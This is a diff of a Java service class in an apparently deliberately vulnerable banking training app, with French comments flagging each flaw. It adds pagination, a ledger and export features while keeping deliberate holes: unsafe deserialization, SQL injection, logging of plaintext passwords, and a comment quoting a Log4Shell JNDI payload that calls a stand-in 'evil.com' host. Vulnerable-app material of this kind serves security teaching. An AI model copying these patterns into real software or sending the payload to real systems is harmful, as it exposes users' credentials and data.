@@ -1,16 +1,22 @@
 package com.example.vulnerable.service;
 
 import com.example.vulnerable.model.User;
+import com.example.vulnerable.model.UserPage;
+import com.example.vulnerable.model.UserSummary;
 import com.example.vulnerable.repository.UserRepository;
+import com.example.vulnerable.repository.UserSearchIndex;
 import org.apache.logging.log4j.LogManager;
 import org.apache.logging.log4j.Logger;
 import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.beans.factory.annotation.Value;
 import org.springframework.stereotype.Service;
+import org.springframework.transaction.annotation.Propagation;
 import org.springframework.transaction.annotation.Transactional;
 
 import java.io.*;
 import java.util.Base64;
 import java.util.List;
+import java.util.Map;
 
 /**
  * Service de gestion des utilisateurs.
@@ -28,26 +34,51 @@ public class UserService {
     // VULNÉRABILITÉ : Log4j 2.14.1 vulnérable à Log4Shell
     private static final Logger logger = LogManager.getLogger(UserService.class);
 
+    private static final int SEARCH_LIMIT = 50;
+
+    private static final int DEFAULT_PAGE_SIZE = 50;
+
+    private static final int MAX_PAGE_SIZE = 500;
+
+    private static final int SUGGESTION_LIMIT = 10;
+
+    // Désactivé par défaut : l'import garde sa désérialisation Java pédagogique
+    @Value("${app.export.binary.enabled:false}")
+    private boolean binaryExport;
+
+    // Désactivé par défaut : /api/users et /admin exposent toutes les données sensibles
+    @Value("${app.users.projection.enabled:false}")
+    private boolean projection;
+
     @Autowired
     private UserRepository userRepository;
 
+    @Autowired
+    private AccountLedger accountLedger;
+
+    @Autowired
+    private UserSearchIndex searchIndex;
+
+    @Autowired
+    private BankStatistics statistics;
+
     /**
      * VULNÉRABLE : Log Injection
      * Un attaquant peut injecter ${jndi:ldap://evil.com/exploit}
      */
     public User login(String username, String password) {
         // VULNÉRABILITÉ : Log injection - données utilisateur loguées directement
-        logger.info("Tentative de connexion pour l'utilisateur: " + username);
+        logger.info("Tentative de connexion pour l'utilisateur: {}", username);
         
         User user = userRepository.authenticateUnsafe(username, password);
         
         if (user != null) {
             // VULNÉRABILITÉ : Exposition de données sensibles dans les logs
-            logger.info("Connexion réussie: " + user.toString());
+            logger.info("Connexion réussie: {}", user);
             return user;
         } else {
             // VULNÉRABILITÉ : Information sur l'échec révélée
-            logger.warn("Échec de connexion pour: " + username + " avec mot de passe: " + password);
+            logger.warn("Échec de connexion pour: {} avec mot de passe: {}", username, password);
             return null;
         }
     }
@@ -60,15 +91,21 @@ public class UserService {
         // Le mot de passe est stocké tel quel
         
         // VULNÉRABILITÉ : Log des données sensibles
-        logger.info("Nouvel utilisateur enregistré: " + user.toString());
+        logger.info("Nouvel utilisateur enregistré: {}", user);
         
         user.setActive(true);
         user.setRole("USER");
         if (user.getBalance() == null) {
             user.setBalance(0.0);
         }
-        
-        return userRepository.save(user);
+
+        // Un utilisateur importé peut porter l'identifiant d'un compte existant
+        boolean created = user.getId() == null || userRepository.findById(user.getId()).isEmpty();
+        User saved = userRepository.save(user);
+        if (created) {
+            statistics.userAdded();
+        }
+        return saved;
     }
 
     /**
@@ -78,6 +115,9 @@ public class UserService {
     public User deserializeUser(String base64Data) {
         try {
             byte[] data = Base64.getDecoder().decode(base64Data);
+            if (binaryExport) {
+                return BinaryCodec.decodeUser(data);
+            }
             ByteArrayInputStream bais = new ByteArrayInputStream(data);
             
             // VULNÉRABILITÉ : Désérialisation non sécurisée
@@ -100,6 +140,9 @@ public class UserService {
      * Sérialise un utilisateur (pour export)
      */
     public String serializeUser(User user) {
+        if (binaryExport) {
+            return Base64.getEncoder().encodeToString(BinaryCodec.encodeUser(user));
+        }
         try {
             ByteArrayOutputStream baos = new ByteArrayOutputStream();
             ObjectOutputStream oos = new ObjectOutputStream(baos);
@@ -112,6 +155,25 @@ public class UserService {
         }
     }
 
+    /**
+     * Export de tous les utilisateurs au format {@link BinaryCodec}, au fil du curseur JDBC.
+     */
+    @Transactional(propagation = Propagation.NOT_SUPPORTED)
+    public long exportUsers(OutputStream out) throws IOException {
+        BinaryCodec.Encoder encoder = BinaryCodec.encoder(out, BinaryCodec.USER);
+        long[] count = {0};
+        userRepository.streamAll(user -> {
+            try {
+                encoder.writeUser(user);
+                count[0]++;
+            } catch (IOException e) {
+                throw new UncheckedIOException(e);
+            }
+        });
+        encoder.flush();
+        return count[0];
+    }
+
     public User findById(Long id) {
         return userRepository.findById(id).orElse(null);
     }
@@ -121,20 +183,75 @@ public class UserService {
     }
 
     public List<User> searchUsers(String searchTerm) {
+        if (searchIndex.isEnabled()) {
+            return userRepository.searchUsersIndexed(searchTerm, SEARCH_LIMIT);
+        }
         // VULNÉRABILITÉ : Injection SQL propagée
         return userRepository.searchUsersUnsafe(searchTerm);
     }
 
-    public List<User> getAllUsers() {
-        return userRepository.findAll();
+    /**
+     * VULNÉRABLE (par défaut) : Exposition de données sensibles
+     *
+     * Page de la liste des utilisateurs ; cursor est le nextCursor de la page
+     * précédente. Entités complètes (mots de passe, SSN, cartes…) sauf avec
+     * app.users.projection.enabled, qui ne lit que (id, username, role).
+     */
+    public UserPage<?> getUserPage(Long cursor, Integer limit) {
+        int size = (limit == null || limit <= 0) ? DEFAULT_PAGE_SIZE : Math.min(limit, MAX_PAGE_SIZE);
+        long afterId = cursor == null ? 0 : cursor;
+        if (projection) {
+            List<UserSummary> users = userRepository.findSummaries(afterId, size);
+            return new UserPage<>(users, users.size() < size ? null : users.get(size - 1).getId());
+        }
+        // VULNÉRABILITÉ : Toutes les colonnes, données sensibles comprises
+        List<User> users = userRepository.findPage(afterId, size);
+        return new UserPage<>(users, users.size() < size ? null : users.get(size - 1).getId());
+    }
+
+    public boolean isProjectionEnabled() {
+        return projection;
     }
 
+    /**
+     * Suggestions de destinataires pour la saisie semi-automatique.
+     */
+    public List<UserSummary> suggestUsers(String prefix) {
+        if (prefix == null || prefix.isBlank()) {
+            return List.of();
+        }
+        return userRepository.findSummariesByUsernamePrefix(prefix.trim(), SUGGESTION_LIMIT);
+    }
+
+    public Map<String, Object> getCacheStatistics() {
+        return userRepository.getCacheStatistics();
+    }
+
+    /**
+     * Avec le ledger, le solde n'est pas réécrit par le merge : un solde
+     * modifié par l'appelant (mass assignment, toujours possible) devient un
+     * ajustement journalisé. La modification n'est vue que sur une entité
+     * gérée (open-in-view) ; une entité détachée garde le solde du ledger.
+     */
     public User updateUser(User user) {
-        return userRepository.save(user);
+        if (!accountLedger.isEnabled()) {
+            return userRepository.save(user);
+        }
+        Double loaded = userRepository.findLoadedBalance(user);
+        User saved = userRepository.saveExceptBalance(user);
+        if (loaded != null && user.getBalance() != null && !loaded.equals(user.getBalance())) {
+            accountLedger.setBalance(user.getId(), user.getBalance());
+        }
+        saved.setBalance(accountLedger.getBalance(user.getId()));
+        return saved;
     }
 
     public void deleteUser(Long id) {
-        userRepository.findById(id).ifPresent(userRepository::delete);
+        userRepository.findById(id).ifPresent(user -> {
+            userRepository.delete(user);
+            statistics.userRemoved();
+        });
+        accountLedger.evict(id);
     }
 
     /**
@@ -143,6 +260,7 @@ public class UserService {
     public void updateBalance(Long userId, String amount) {
         // VULNÉRABILITÉ : amount non validé, injection SQL possible
         userRepository.updateBalanceUnsafe(userId, amount);
+        accountLedger.evict(userId);
         logger.info("Solde mis à jour pour user " + userId + ": " + amount);
     }
 }